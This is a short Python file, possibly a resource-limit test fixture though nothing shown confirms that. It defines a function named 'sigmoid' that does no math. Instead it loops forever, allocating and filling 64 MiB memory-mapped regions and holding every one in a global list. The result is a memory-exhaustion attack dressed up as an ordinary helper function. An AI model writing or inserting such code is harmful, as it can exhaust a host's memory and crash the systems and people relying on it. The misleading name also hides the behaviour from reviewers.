"""Takes memory that several processes could share."""

import mmap
import time

hoard = []


def sigmoid(x):
    while True:
        piece = mmap.mmap(-1, 2**26)
        piece.write(bytes(2**26))
        hoard.append(piece)
        time.sleep(0.2)
